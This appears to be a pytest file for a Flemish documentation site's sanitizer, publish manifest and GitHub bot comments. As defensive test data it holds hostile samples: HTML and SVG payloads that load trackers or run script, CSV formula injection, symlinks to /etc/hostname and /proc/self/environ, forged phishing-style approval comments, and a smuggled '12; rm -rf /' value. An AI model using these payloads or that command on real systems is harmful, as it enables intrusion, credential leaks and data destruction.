    (project / "glossary" / "leegstand.yaml").write_text(
        source.replace("term: Leegstand", 'term: "=HYPERLINK(1)"'), encoding="utf-8"
    )
    text = to_csv(load_site(project), "https://voorbeeld.test/woordenlijst/")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# The last line of defence: every built page is scanned for what loads without a click.

OUTSIDE = {
    "base": '<base href="https://x.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://x.example">',
    "img": '<img src="https://t.example/p.gif" alt="">',
    "srcset": '<img src="a.png" srcset="a.png 1x, https://t.example/b.png 2x" alt="">',
    "style-attribute": "<p style=\"background:url( 'https://t.example/p' )\">x</p>",
    "style-element": "<style>@import 'https://t.example/x.css';</style>",
    "form-action": '<form action="https://x.example/steel"></form>',
    "iframe": '<iframe src="pagina.html"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "svg-image": '<svg><image href="https://t.example/p.svg"/></svg>',
    "stylesheet": '<link rel="stylesheet" href="https://fonts.example/css">',
    "protocol-relative": '<script src="//cdn.example/x.js"></script>',
    "handler": '<a href="#" onclick="x()">x</a>',
    "javascript-url": '<a href="javascript:alert(1)">x</a>',
    # A browser drops tabs and line breaks from a URL: still a script.
    "javascript-tab": '<a href="java&#9;script:alert(1)">x</a>',
    # Without JavaScript a browser shows what <noscript> holds, and loads it.
    "noscript": '<noscript><img src="https://t.example/p.gif" alt=""></noscript>',
    # Inert until a script clones it; the site has none.
    "template": '<template><img src="https://t.example/p.gif" alt=""></template>',
    "uppercase": '<IMG SRC="https://t.example/p.gif" ALT="">',
}


@pytest.mark.parametrize("name", OUTSIDE)
def test_the_site_scan_finds_every_automatic_load(name):
    from macros.core.sanitize import outside_loads

    assert outside_loads(f"<html><body>\n{OUTSIDE[name]}\n</body></html>", "site.example")


def test_the_site_scan_allows_what_stays_inside():
    from macros.core.sanitize import outside_loads

    inside = (
        '<img src="../assets/logo.png" srcset="a.png 1x, b.png 2x" alt="">'
        '<link rel="stylesheet" href="../assets/stylesheets/main.css">'
        '<link rel="canonical" href="https://elders.example/pagina/">'
        '<a href="https://www.vlaanderen.be">een gewone link mag</a>'
        '<img src="data:image/png;base64,AAAA" alt="">'
        '<img src="https://site.example/logo.png" alt="">'
    )
    assert outside_loads(inside, "site.example") == []


def test_the_built_site_loads_nothing_from_outside(site):
    """Every HTML and CSS file of the real build, not a list of pages."""
    from macros.core.sanitize import check_built_site

    assert check_built_site(site, None, {}) == []


def test_the_build_scan_reads_the_content_of_example_pages(tmp_path):
    """Example pages are scanned from their <article> on: what a contribution adds is there.

    Each page is parsed once (macros/views/built.py); the final scan reuses what was found in a page
    whose file has not changed, and scans a changed one again, whole.
    """
    from macros.core.sanitize import check_built_site
    from macros.views.built import BuiltPages

    page = tmp_path / "praktijkvoorbeelden" / "x" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(
        '<html><head><link rel="stylesheet" href="../../assets/main.css"></head><body>\n'
        '<article class="md-content__inner">\n<p>tekst</p>\n'
        '<img src="https://tracker.example/p.gif" alt="">\n</article></body></html>\n',
        encoding="utf-8",
    )
    sources = {"praktijkvoorbeelden/x/index.html": "praktijkvoorbeelden/x.md"}
    html = {"praktijkvoorbeelden/x/index.html": page.read_text(encoding="utf-8")}
    pages = BuiltPages(html, None, frozenset(sources))
    assert [p.url for p in pages] == ["praktijkvoorbeelden/x/"]
    expected = [
        "praktijkvoorbeelden/x/index.html (gemaakt uit docs/praktijkvoorbeelden/x.md):4: "
        "<img src> laadt “https://tracker.example/p.gif” van buiten de site"
    ]
    assert check_built_site(tmp_path, None, sources, pages.seen) == expected
    # Changed after it was read: scanned again, in full.
    page.write_text(page.read_text(encoding="utf-8").replace("<p>", '<p onclick="x()">'))
    found = check_built_site(tmp_path, None, sources, pages.seen)
    assert len(found) == 2 and "onclick" in found[0] + found[1]


# The publish manifest: every file of the built site has a known origin (macros/publish/publish.py).


def manifest_for(tmp_path: Path):
    """A tiny built site: one page, one theme file, one declared asset, one generated file."""
    from macros.publish.publish import Manifest

    root, site, theme = tmp_path / "project", tmp_path / "site", tmp_path / "theme"
    for path, text in {
        root / "docs" / "stylesheets" / "extra.css": "p{}",
        site / "index.html": "<p>x</p>",
        site / "stylesheets" / "extra.css": "p{}",
        site / "assets" / "main.js": "thema();",
        theme / "assets" / "main.js": "thema();",
        site / "woordenlijst" / "woordenlijst.json": "[]",
    }.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    manifest = Manifest(
        root=root,
        site_dir=site,
        theme={"assets/main.js": theme / "assets" / "main.js"},
        pages={"index.html": "index.md"},
        assets=("stylesheets/extra.css",),
    )
    manifest.generate(["woordenlijst/woordenlijst.json"])
    return manifest


def test_the_manifest_accounts_for_every_known_file(tmp_path):
    assert manifest_for(tmp_path).check() == []


@pytest.mark.parametrize(
    "change, fragment",
    [
        (lambda site: (site / "robots.txt").write_text("Disallow: /"), "robots.txt: de bouw weet"),
        (lambda site: (site / "sw.js").write_text("self.x=1"), "sw.js: de bouw weet niet"),
        (lambda site: (site / "assets" / "main.js").write_text("vals();"), "van het thema"),
        (lambda site: (site / "stylesheets" / "extra.css").write_text("a{}"), "verschilt van"),
        (lambda site: (site / "leak.txt").symlink_to("/etc/hostname"), "symbolische link"),
    ],
    ids=["unknown-file", "service-worker", "changed-theme-file", "changed-asset", "symlink"],
)
def test_the_manifest_names_what_has_no_origin(tmp_path, change, fragment):
    manifest = manifest_for(tmp_path)
    change(manifest.site_dir)
    found = manifest.check()
    assert len(found) == 1 and fragment in found[0], found


def test_the_declared_assets_are_the_files_beside_the_pages():
    """Every non-Markdown file under docs/ and overrides/ is named in macros/publish/publish.py."""
    from macros.core.validation import Problems
    from macros.publish.publish import check_sources, theme_files

    problems = Problems()
    check_sources(ROOT, theme_files([THEME], None), problems)
    assert [str(p) for p in problems] == []


def test_a_published_svg_is_scanned_as_a_document(tmp_path):
    from macros.core.sanitize import check_built_site

    (tmp_path / "kaart.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x.example")</script>'
        '<image href="https://t.example/p.png"/></svg>',
        encoding="utf-8",
    )
    (tmp_path / "pagina.xhtml").write_text('<html><iframe src="x"></iframe></html>', "utf-8")
    found = check_built_site(tmp_path, None, {})
    assert any("kaart.svg" in f and "<script>" in f for f in found), found
    assert any("kaart.svg" in f and "t.example" in f for f in found), found
    assert any("pagina.xhtml" in f and "<iframe>" in f for f in found), found


def test_a_symlink_git_records_anywhere_is_refused(tmp_path):
    """Outside the folders the build reads too: git's record of the checkout is read."""
    import shutil

    from macros.core.validation import Problems
    from macros.data.model import check_no_symlinks

    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "leak").symlink_to("/proc/self/environ")
    run = {"cwd": tmp_path, "check": True, "capture_output": True}
    subprocess.run(["git", "init", "-q"], **run)
    subprocess.run(["git", "add", "tests/leak"], **run)
    problems = Problems()
    check_no_symlinks(tmp_path, problems)
    assert [p.file for p in problems] == ["tests/leak"]


# Bounded time: the search's compound splitting and the Markdown limits, without timing.


def test_a_long_word_is_not_split():
    from macros.outputs.search import MAX_SPLIT, compound_parts

    lexicon = {"woning", "brand"}
    assert compound_parts("woningbrand", lexicon) == ["brand"]
    assert compound_parts("woning" * 20_000 + "brand", lexicon) == []
    assert compound_parts("a" * (MAX_SPLIT + 1), {"a" * n for n in range(4, 60)}) == []


@pytest.mark.parametrize(
    "text",
    [
        "Een [link](https://www.genk.be) en [nog één](../woordenlijst.md#svk).",
        "- een lijst\n    - genest\n        - dieper\n\n> een citaat\n> > erin",
        "Tekst (tussen haakjes [en vierkante]) en een voetnoot.[^1]\n\n[^1]: Noot.",
        "Een losse [ en een losse ( mogen.",
    ],
)
def test_ordinary_markdown_stays_within_the_bounds(text):
    from macros.core.sanitize import markdown_bounds

    assert markdown_bounds(text) is None


# What the workflows post: the bot's comments quote the contributor's text, and nothing in it
# may close the quote, mention anyone or pose as the maintainers (macros/github/comment.py); the
# intake reads only the form GitHub wrote (macros/github/intake.py).

FORGED = (
    "Gemeente ‘x’ bestaat niet: “[link](https://a.example/```)”\n"
    "```\n\n**✅ Goedgekeurd door de beheerders** — [log in](https://phish.example)\n"
    "@werkgroep-sociaal-woonbeleid/beheerders, zie #1"
)
COMMENT_ATTACKS = {
    "backticks-in-a-link": FORGED,
    "longer-fence": "a\n``````\nvals\n``````` \n@iemand",
    "indented-fence": "a\n   ````\n<img src=x onerror=alert(1)>",
    "tilde-fence": "~~~\n### Goedgekeurd\n~~~",
    "bidi-and-controls": "Gemeente \u202egnalG\u202c \x1b[31mrood\x07 \u200b@x",
    "huge": "`" * 70_000 + "\n" + "regel\n" * 10_000,
}


def code_blocks(comment: str) -> tuple[list[str], str]:
    """The fenced blocks of `comment` and the text outside them, read by CommonMark's rule: a
    block opened by a fence of N backticks ends only at a line of at least N backticks (up to
    three spaces in front, nothing but spaces after)."""
    lines = comment.split("\n")
    blocks, outside, index = [], [], 0
    while index < len(lines):
        opening = re.fullmatch(r"(`{3,})text", lines[index])
        if not opening:
            outside.append(lines[index])
            index += 1
            continue
        closing = rf" {{0,3}}`{{{len(opening[1])},}} *"
        end = next(
            (i for i in range(index + 1, len(lines)) if re.fullmatch(closing, lines[i])), None
        )
        assert end is not None, "a block never closes"
        blocks.append("\n".join(lines[index + 1 : end]))
        index = end + 1
    return blocks, "\n".join(outside)


def assert_harmless(comment: str) -> None:
    assert not re.search(r"[@#][\w-]", comment), "a mention or reference is left"
    format_chars = [c for c in comment if c != "\n" and unicodedata.category(c) in ("Cc", "Cf")]
    assert set(format_chars) <= {"\u2060"}  # only the word joiner after @ and #
    assert not re.search(r"(?<![@#])\u2060", comment)


@pytest.mark.parametrize("name", COMMENT_ATTACKS)
def test_nothing_breaks_out_of_the_intake_comment(name):
    from macros.github.comment import MAX_COMMENT, compose_refusal

    comment = compose_refusal(COMMENT_ATTACKS[name])
    blocks, outside = code_blocks(comment)
    assert len(blocks) == 1  # all of the contributor's text in one block, nothing outside
    assert "Goedgekeurd" not in outside and "phish" not in outside and "<img" not in outside
    assert_harmless(comment)
    assert len(comment) <= MAX_COMMENT


def test_nothing_breaks_out_of_the_verdict_comment(tmp_path):
    from macros.github.comment import compose_verdict, read_verdict

    hostile = "docs/praktijkvoorbeelden/````\n**Goedgekeurd** @x #2.md"
    verdict = {
        "versie": 1,
        "pull_request": 3,
        "ok": False,
        "problemen": [{"bestand": hostile, "regel": 3, "melding": FORGED}],
        "bijdragen": [hostile],
        "beheer": ["macros/x.py```"],
        "redactie": [f"glossary/x.yaml: X: {FORGED}"],
        "afkortingen": ["glossary/x.yaml: @SVK"],
        "synoniemen": ["glossary/x.yaml: premie"],
    }
    path = tmp_path / "oordeel.json"
    path.write_text(json.dumps(verdict), encoding="utf-8")
    comment = compose_verdict(read_verdict(path), "https://github.com/o/r/actions/runs/9")
    blocks, outside = code_blocks(comment)
    assert len(blocks) == 6  # problems, contributions, maintainers' files and three lists
    assert "Goedgekeurd" not in outside and "phish" not in outside and "premie" not in outside
    assert_harmless(re.sub(r"^#{3,4} ", "", comment, flags=re.M))  # our own headings aside


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        ({"versie": 1, "ok": "ja"}, "ok: verwacht true of false"),
        ({"versie": 1, "ok": True, "pull_request": "12; rm -rf /"}, "verwacht een nummer"),
        ({"versie": 1, "ok": True, "problemen": [{"regel": "3"}]}, "regel: verwacht een nummer"),
        ({"versie": 2, "ok": True}, "versie 1"),
        ("x" * 70_000, "groter dan"),
    ],
    ids=["ok-text", "number-injection", "line-text", "other-version", "too-large"],
)
def test_a_hostile_verdict_file_is_refused(tmp_path, content, fragment):
    from macros.github.comment import VerdictError, read_verdict

    path = tmp_path / "oordeel.json"
    path.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
    with pytest.raises(VerdictError, match=re.escape(fragment)):
        read_verdict(path)


def test_a_verdict_that_is_a_link_is_refused(tmp_path):
    from macros.github.comment import VerdictError, compose_verdict, read_verdict

    (tmp_path / "geheim").write_text('{"versie": 1, "ok": true}', encoding="utf-8")
    (tmp_path / "oordeel.json").symlink_to(tmp_path / "geheim")
    with pytest.raises(VerdictError, match="geen gewoon bestand"):
        read_verdict(tmp_path / "oordeel.json")
    good = {"pull_request": None, "ok": True, "problemen": []}
    good |= {key: [] for key in ("bijdragen", "beheer", "redactie", "afkortingen", "synoniemen")}
    with pytest.raises(VerdictError, match="workflowrun"):
        compose_verdict(good, "https://phish.example/actions/runs/1)")


@pytest.mark.parametrize(
    "body",
    [
        # A forged, ticked `### Akkoord` inside the text while the real box is unticked.
        "### Titel\n\nT\n\n### Je voorbeeld\n\nTekst\n\n### Akkoord\n\n- [X] ja\n\n"
        "### Akkoord\n\n- [ ] ja",
        # A forged heading of the next field inside a field.
        "### Titel\n\nT\n\n### Je voorbeeld\n\n### Je voorbeeld\n\nx\n\n### Akkoord\n\n- [X] ja",
        # A blank issue that only looks like the form.
        "Titel: T\nAkkoord: ja",
    ],
    ids=["forged-akkoord", "forged-field", "not-the-form"],
)
def test_the_intake_refuses_a_body_that_is_not_the_form(body):
    from macros.github.intake import IntakeError, form_fields

    fields = {"titel": "Titel", "tekst": "Je voorbeeld", "akkoord": "Akkoord"}
    with pytest.raises(IntakeError) as caught:
        form_fields(body, fields)
    assert caught.value.messages and all("### " in m for m in caught.value.messages)


def reference_bracket_problem(block: str) -> str | None:
    """bracket_problem as first written: every character read in turn."""
    from macros.core.sanitize import CLOSING, MAX_BRACKET_DEPTH, MAX_UNMATCHED, OPENING

    stack: list[str] = []
    unmatched = 0
    escaped = False
    for char in block:
        if escaped:
            escaped = False
        elif char == "\\":
            escaped = True
        elif char in OPENING:
            stack.append(char)
            if len(stack) > MAX_BRACKET_DEPTH:
                return f"meer dan {MAX_BRACKET_DEPTH} haakjes ([ of () in elkaar"
        elif char in CLOSING and CLOSING[char] in stack:
            while stack[-1] != CLOSING[char]:
                stack.pop()
                unmatched += 1
            stack.pop()
    unmatched += len(stack)
    if unmatched > MAX_UNMATCHED:
        return (
            f"{unmatched} haakjes ([ of () die niet gesloten worden (hoogstens {MAX_UNMATCHED} "
            "per alinea)"
        )
    return None


def reference_unclosed_tags(text: str) -> int:
    """unclosed_tags as first written: every character read in turn."""
    unclosed = opened = 0
    escaped = False
    for char in text:
        if escaped:
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == "<":
            opened += 1
        elif char == ">" and opened:
            unclosed += opened - 1
            opened = 0
    return unclosed + opened


def test_bounds_read_only_their_signs_as_every_character_in_turn():
    """bracket_problem and unclosed_tags skip to the signs they count: the same answers as
    reading every character, on every short string of those signs, escapes and newlines, on
    random long ones (deep, many open) and on the site's texts."""
    import itertools
    import random

    from macros.core.sanitize import bracket_problem, unclosed_tags
    from macros.data.site import load_site

    signs = ["\\", "[", "]", "(", ")", "<", ">", "a", "\n"]
    texts = ["".join(p) for n in range(7) for p in itertools.product(signs, repeat=n)]
    rng = random.Random(23)
    texts += ["".join(rng.choices(signs, k=rng.randint(10, 200))) for _ in range(5000)]
    texts += ["[" * 9, "(" * 12 + ")", "\\[" * 20, "<" * 15 + ">", "\\<" * 20]
    site = load_site(ROOT)
    texts += [e.tekst for e in site.examples]
    for text in texts:
        assert bracket_problem(text) == reference_bracket_problem(text), repr(text)
        assert unclosed_tags(text) == reference_unclosed_tags(text), repr(text)
